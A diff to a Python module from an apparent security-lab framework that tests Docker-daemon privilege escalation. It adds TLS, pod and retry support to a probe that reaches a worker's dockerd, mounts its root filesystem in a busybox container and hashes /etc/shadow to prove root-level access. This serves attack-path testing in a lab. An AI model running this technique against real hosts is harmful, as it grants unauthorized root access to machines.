@@ -2,36 +2,51 @@
 
 from __future__ import annotations
 
+import re
+from collections.abc import Sequence
 from typing import TYPE_CHECKING
 
 from labkit.errors import CommandFailed, ProbeError, ProbeTimeout
-from labkit.techniques._reach import inside, place, run
-from labkit.techniques._verdict import Verdict
+from labkit.techniques._reach import ATTEMPTS, digest, inside, place, run
+from labkit.techniques._verdict import Setting, Verdict
 
 if TYPE_CHECKING:
+    from labkit.cluster import Environment
     from labkit.lab import Lab, Output
+    from labkit.techniques._pod import Pod
 
-__all__ = ["SOCKET", "become_root"]
+__all__ = ["SOCKET", "WORKER", "become_root", "control", "listens_on"]
 
 SOCKET = "/run/docker.sock"
 WORKER, ONLY_ROOT_READS = "worker1", "/etc/shadow"
 #: docker's client tells a closed port and a forbidden one with the same words; curl does not.
 KNOCK = ["curl", "--silent", "--show-error", "--verbose", "--noproxy", "*", "--max-time", "5"]
 REFUSALS = ("Permission denied", "Connection refused")
-#: The image is busybox, brought along; the machine is mounted, and nothing of it changed.
+ALERT = re.compile(r"^curl: .*alert ([a-z ]+[a-z])", re.MULTILINE)
+#: The image is busybox, brought along; the machine is mounted, and nothing of it changed. There
+#: is no home: docker's client stops at one that it may not look into for certificates.
 TAKE = """
 set -eu
-export DOCKER_HOST=$1
+export HOME=/nonexistent
+file=$1
+shift
 image=labkit-attack-$$
-trap 'docker rmi --force "$image" >/dev/null 2>&1' EXIT
-tar --directory=/ --create usr/bin/busybox 2>/dev/null | docker import - "$image" >/dev/null
-docker run --rm --network=none --volume=/:/machine:ro "$image" \\
-  /usr/bin/busybox sha256sum "/machine$2"
+trap 'docker "$@" rmi --force "$image" >/dev/null 2>&1' EXIT
+tar --directory=/ --create usr/bin/busybox 2>/dev/null | docker "$@" import - "$image" >/dev/null
+docker "$@" run --rm --network=none --volume=/:/machine:ro "$image" \\
+  /usr/bin/busybox sha256sum "/machine$file"
 """
 
 
 def become_root(
-    lab: Lab, technique: str, foothold: str, host: str, *, user: str | None = None
+    lab: Lab,
+    technique: str,
+    foothold: str,
+    host: str,
+    *,
+    user: str | None = None,
+    pod: Pod | None = None,
+    tls: Sequence[str] | None = None,
 ) -> Verdict:
     """Read what only root may read on a worker, by way of its dockerd.
 
@@ -43,28 +58,48 @@ def become_root(
         As docker's client takes it: ``unix://...`` or ``tcp://NAME:PORT``.
     user : str, optional
         Who does it on the foothold's machine; without it, the foothold's own user.
+    pod : Pod, optional
+        In which it is done; the socket's path is then the pod's own.
+    tls : sequence of str, optional
+        The paths of a certificate and its key, or nothing, where TLS is spoken.
 
     Returns
     -------
     Verdict
     """
     kind, _, where = host.partition("://")
+    options = [f"--host={host}"]
     if kind == "tcp":
         inside(lab, where.partition(":")[0])
-        knock = [*KNOCK, f"http://{where}/_ping"]
+        scheme = "http" if tls is None else "https"
+        pair = list(zip(("cert", "key"), tls or (), strict=False))
+        knock = [*KNOCK, "--insecure", f"{scheme}://{where}/_ping"]
+        knock += [word for name, path in pair for word in (f"--{name}", path)]
+        if tls is not None:
+            # without the second, docker's client looks for an authority and finds none
+            options += ["--tls", "--tlscacert=", *(f"--tls{name}={path}" for name, path in pair)]
         door = f"tcp port {where.partition(':')[2]} of dockerd@{WORKER}"
     else:
-        knock = [*KNOCK, "--unix-socket", where, "http://docker/_ping"]
         door = f"{where} of dockerd@{WORKER}"
-    asked = _do(lab, foothold, knock, user)
+        if pod:
+            where = pod.path(where)
+            options = [f"--host=unix://{where}"]
+        knock = [*KNOCK, "--unix-socket", where, "http://docker/_ping"]
+    for _ in range(ATTEMPTS):
+        asked = _do(lab, foothold, knock, user, pod)
+        if "reset by peer" not in asked.error:
+            break
     refusal = next((word.lower() for word in REFUSALS if word in asked.error), "")
+    if alert := ALERT.search(asked.error):
+        refusal = f"TLS alert: {alert[1]}"
     if asked.exit_code and refusal:
         reason, tried = refusal, (f"called the {door}",)
-        return Verdict(technique, lab.mode, foothold, False, reason, tried, _control(lab))
+        return Verdict(technique, lab.mode, foothold, False, reason, tried, control(lab))
     if asked.exit_code:
         raise ProbeError(f"{technique}: curl exited with {asked.exit_code}", evidence=_tail(asked))
-    took = _do(lab, foothold, ["sh", "-c", TAKE, "-", host, ONLY_ROOT_READS], user)
-    truth = run(lab, WORKER, ["sha256sum", ONLY_ROOT_READS], check=True).text.split()[0]
+    argv = ["sh", "-c", TAKE, "-", ONLY_ROOT_READS, *options]
+    took = _do(lab, foothold, argv, user, pod)
+    truth = digest(lab, WORKER, ONLY_ROOT_READS)
     if took.exit_code or truth not in took.text:
         raise ProbeError(
             f"{technique}: {door} answers, but {ONLY_ROOT_READS} was not read", evidence=_tail(took)
@@ -77,8 +112,8 @@ def become_root(
     return Verdict(technique, lab.mode, foothold, True, "dockerd does what it is told", evidence)
 
 
-def _do(lab: Lab, foothold: str, argv: list[str], user: str | None) -> Output:
-    node, usual, prefix = place(lab, foothold)
+def _do(lab: Lab, foothold: str, argv: list[str], user: str | None, pod: Pod | None) -> Output:
+    node, usual, prefix = (pod.node, None, pod.prefix) if pod else place(lab, foothold)
     try:
         return lab.exec(node, [*prefix, *argv], user=user or usual, check=False)
     except CommandFailed as error:
@@ -89,6 +124,14 @@ def _tail(output: Output) -> list[str]:
     return output.error.strip().splitlines()[-5:]
 
 
-def _control(lab: Lab) -> str:
+def control(lab: Lab) -> str:
+    """Show, after a refusal, that the Docker Engine is alive."""
     run(lab, WORKER, ["docker", f"--host=unix://{SOCKET}", "version"], check=True)
     return "root on the worker commands dockerd through its socket"
+
+
+def listens_on(env: Environment) -> list[Setting]:
+    """Return where the worker's Docker Engine is told to listen, as a technique's setting."""
+    found = env.component(f"dockerd@{WORKER}").values("host")
+    where = " ".join(setting.value for setting in found)
+    return [("where the Docker Engine listens", where, str(found[0].source))]
